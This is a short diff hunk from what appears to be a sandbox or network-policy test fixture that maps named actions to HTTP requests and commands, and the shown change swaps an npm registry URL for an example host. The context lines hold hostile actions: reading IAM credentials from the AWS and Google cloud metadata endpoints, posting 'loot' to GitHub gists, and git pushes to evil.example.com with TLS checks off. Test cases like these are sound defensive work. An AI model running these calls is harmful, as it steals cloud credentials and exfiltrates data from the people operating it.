@@ -40,7 +40,7 @@ export const network = {
   "ask the cloud for its credentials": () => ask("GET", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
   "ask the other cloud for its credentials": () => ask("GET", "http://metadata.google.internal/computeMetadata/v1/", { headers: { "metadata-flavor": "Google" } }),
   "paste to a service that everybody trusts": () => ask("POST", "https://api.github.com/gists", { body: loot() }),
-  "fetch a package": () => ask("GET", "https://registry.npmjs.org/left-pad"),
+  "fetch a package": () => ask("GET", "https://packages.example.com/left-pad"),
   "run npm": () => run("npm", "view", "left-pad", "version"),
   "push to a remote of its own": () => run("git", "-c", "http.sslVerify=false", "push", "https://evil.example.com/x.git", "HEAD:main"),
   "fetch from a remote of its own": () => run("git", "ls-remote", "http://evil.example.com/x.git"),
